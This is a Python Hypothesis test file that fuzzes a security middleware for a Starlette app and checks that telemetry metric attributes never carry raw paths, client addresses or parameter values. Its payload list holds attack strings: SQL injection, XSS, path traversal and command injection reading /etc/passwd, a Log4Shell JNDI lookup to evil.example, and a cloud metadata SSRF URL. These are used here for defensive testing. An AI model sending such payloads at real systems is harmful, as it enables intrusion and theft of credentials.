"""High cardinality (PITFALLS 6): fuzzed paths and queries never grow the metric series.

Hypothesis drives random paths (under routes with parameters, under mounts,
and nowhere), random query strings with and without attack payloads, random
methods and client addresses through a Starlette app behind devsecmw. The
attribute combinations of ``devsecmw.requests``, ``devsecmw.signals`` and
``devsecmw.inspection.duration`` must all come from a small, known vocabulary:
route templates, normalized methods, statuses, classifications and signal
types; never a raw path, a client address or a parameter value. Span names
never carry a raw path either.
"""

from __future__ import annotations

import asyncio
from typing import Any
from urllib.parse import quote

from asgi_harness import (
    make_scope,
    steady_time_budget,  # noqa: F401  (autouse: load-independent detection)
)
from conftest import Telemetry
from hypothesis import given, settings
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response
from starlette.routing import Mount, Route

from devsecmw.asgi import SecurityMiddleware
from devsecmw.signals import ATTACK_TYPES, SIGNAL_TYPES


async def ok(request: Request) -> Response:
    code = (
        int(request.query_params.get("status", "200"))
        if request.query_params.get("status", "").isdigit()
        else 200
    )
    return PlainTextResponse("ok", status_code=code if 200 <= code < 600 else 200)


TEMPLATES = {
    "/users/{user_id}",
    "/users/{user_id}/orders/{order_id}",
    "/files/{path:path}",
    "/api/items/{sku}",
}
APP = Starlette(
    routes=[
        Route("/users/{user_id}", ok, methods=["GET", "POST", "DELETE"]),
        Route("/users/{user_id}/orders/{order_id}", ok),
        Route("/files/{path:path}", ok),
        Mount("/api", routes=[Route("/items/{sku}", ok, methods=["GET", "PUT"])]),
    ]
)
METHODS = ["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "PROPFIND", "get", "X-EVIL"]
STATUSES = [200, 201, 302, 401, 403, 404, 429, 500, 503]
PAYLOADS = [
    "1' UNION SELECT password FROM users--",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    ";cat /etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "http://169.254.169.254/latest/meta-data/",
    "plain words",
]
# A path segment no template can equal (templates contain braces) and long enough to be recognizable.
SEGMENT = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-._~%", min_size=6, max_size=24)


@st.composite
def requests(draw: st.DrawFn) -> dict[str, Any]:
    seg = [draw(SEGMENT) for _ in range(3)]
    path = draw(
        st.sampled_from(
            [
                f"/users/{seg[0]}",
                f"/users/{seg[0]}/orders/{seg[1]}",
                f"/files/{seg[0]}/{seg[1]}/{seg[2]}",
                f"/api/items/{seg[0]}",
                f"/{seg[0]}/{seg[1]}",  # no route: a 404
                f"/api/{seg[0]}",
            ]
        )
    )
    params = draw(
        st.lists(
            st.tuples(
                st.text(min_size=1, max_size=12), st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=40))
            ),
            max_size=4,
        )
    )
    params.append(("status", str(draw(st.sampled_from(STATUSES)))))
    query = "&".join(f"{quote(k)}={quote(v)}" for k, v in params)
    client = f"{draw(st.integers(1, 254))}.{draw(st.integers(0, 255))}.{draw(st.integers(0, 255))}.7"
    return {"method": draw(st.sampled_from(METHODS)), "path": path, "query": query, "client": client}


def run(mw: Any, req: dict[str, Any]) -> None:
    scope = make_scope(req["method"], req["path"], req["query"].encode(), [(b"user-agent", b"fuzz/1")])
    scope["client"] = (req["client"], 40000)
    queue = [{"type": "http.request", "body": b"", "more_body": False}]

    async def receive() -> Any:
        return queue.pop(0) if queue else {"type": "http.disconnect"}

    async def send(message: Any) -> None:
        return None

    asyncio.run(mw(scope, receive, send))


ALLOWED_KEYS = {
    "devsecmw.requests": {
        "http.request.method",
        "http.route",
        "http.response.status_code",
        "devsecmw.classification",
        "devsecmw.attack.type",
        "devsecmw.blocked",
        "devsecmw.would_block",
        "devsecmw.client.flagged",  # true, or absent: requests from a flagged client
    },
    "devsecmw.signals": {
        "http.request.method",
        "http.route",
        "http.response.status_code",
        "devsecmw.classification",
        "devsecmw.signal.type",
        "devsecmw.signal.kind",
    },
    "devsecmw.inspection.duration": {"http.request.method", "http.route", "devsecmw.classification"},
}


def test_fuzzed_paths_and_queries_keep_metric_attributes_bounded() -> None:
    otel = Telemetry()
    mw = SecurityMiddleware(APP, **otel.providers)
    seen: list[dict[str, Any]] = []

    @settings(max_examples=250, deadline=None, database=None)
    @given(req=requests())
    def one(req: dict[str, Any]) -> None:
        seen.append(req)
        run(mw, req)

    one()

    raw_values = {r["path"] for r in seen} | {r["client"] for r in seen} | {r["query"] for r in seen}
    combos: dict[str, set[tuple[tuple[str, Any], ...]]] = {}
    for name, allowed in ALLOWED_KEYS.items():
        points = otel.metric_points(name)
        assert points, f"no points for {name}"
        combos[name] = set()
        for attrs, _ in points:
            assert set(attrs) <= allowed, f"{name} has unexpected attributes {set(attrs) - allowed}"
            assert attrs.get("http.route", next(iter(TEMPLATES))) in TEMPLATES | {"/api"}
            assert attrs["http.request.method"] in {
                "GET",
                "POST",
                "PUT",
                "DELETE",
                "PATCH",
                "HEAD",
                "OPTIONS",
                "_OTHER",
            }
            assert attrs["devsecmw.classification"] in {"attack", "anomaly", "benign"}
            if "http.response.status_code" in attrs:
                assert attrs["http.response.status_code"] in {*STATUSES, 404, 405}
            if "devsecmw.signal.type" in attrs:
                assert attrs["devsecmw.signal.type"] in SIGNAL_TYPES
                kind = "attack" if attrs["devsecmw.signal.type"] in ATTACK_TYPES else "anomaly"
                assert attrs["devsecmw.signal.kind"] == kind
            if "devsecmw.attack.type" in attrs:
                assert attrs["devsecmw.attack.type"] in ATTACK_TYPES
            for flag in ("devsecmw.blocked", "devsecmw.would_block"):
                assert attrs.get(flag, True) is True  # present only when true
            for value in attrs.values():
                assert value not in raw_values
            combos[name].add(tuple(sorted(attrs.items())))
    # The bound: at most routes x methods x statuses x classifications (x signal types), whatever
    # the number of distinct paths, queries and clients (a few hundred here).
    routes, methods, statuses, classes = len(TEMPLATES) + 2, 8, len(STATUSES) + 2, 3
    # Each request series may also carry one primary attack type (or none) and the would-block flag.
    attack_types = len(ATTACK_TYPES) + 1
    assert len(combos["devsecmw.requests"]) <= routes * methods * statuses * classes * attack_types * 2
    assert len(combos["devsecmw.inspection.duration"]) <= routes * methods * classes
    assert len(combos["devsecmw.signals"]) <= routes * methods * statuses * classes * len(SIGNAL_TYPES)
    # And the distinct routes seen are the templates, not the hundreds of paths.
    all_routes = {a.get("http.route") for a, _ in otel.metric_points("devsecmw.requests")}
    assert all_routes <= TEMPLATES | {"/api", None}
    assert len({r["path"] for r in seen}) > 50  # the fuzzing did explore

    # Span names: a method, optionally followed by a template; never a raw path.
    names = {s.name for s in otel.server_spans()}
    for name in names:
        method, _, route = name.partition(" ")
        assert method in {"GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "HTTP"}
        assert route == "" or route in TEMPLATES | {"/api"}
    assert not any(r["path"] in n for r in seen for n in names)
